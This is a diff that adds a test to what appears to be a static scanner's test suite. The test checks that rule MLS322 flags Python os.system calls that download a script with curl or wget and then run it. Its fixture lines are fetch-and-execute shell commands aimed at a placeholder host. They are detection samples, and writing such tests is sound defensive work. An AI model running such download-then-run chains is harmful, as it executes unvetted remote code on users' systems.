@@ -242,3 +242,20 @@ def test_any_call_gives_text_or_nothing_never_an_error(runner: str, arguments: l
     if runner == "os.system" and not arguments and garbage.strip():
         assert [command.text for command in finder.commands] == [garbage]  # a literal is its own text
     command_issues([(command.line, command.text) for command in finder.commands])
+
+
+def test_a_script_downloaded_with_curls_remote_name_or_an_option_cluster_then_run(tmp_path: Path) -> None:
+    """`curl -LO URL/x.sh`, `curl -sLo x.sh`, `wget -P tools`: the file the next command runs;
+    `curl -fsSL URL` alone writes nothing to run (look-alike)."""
+    source = (
+        "import os\n"
+        'os.system("curl -LO https://x.example/get.sh && bash get.sh")\n'
+        'os.system("curl -sLo setup.sh https://x.example/s && sh setup.sh")\n'
+        'os.system("wget -q -P tools https://x.example/tool.sh && bash tools/tool.sh")\n'
+        'os.system("curl -fsSL https://x.example/notes.txt && bash local.sh")\n'
+    )
+    assert [(rule, line) for rule, line, _, _ in ours(scan_code(tmp_path, source))] == [
+        ("MLS322", 2),
+        ("MLS322", 3),
+        ("MLS322", 4),
+    ]
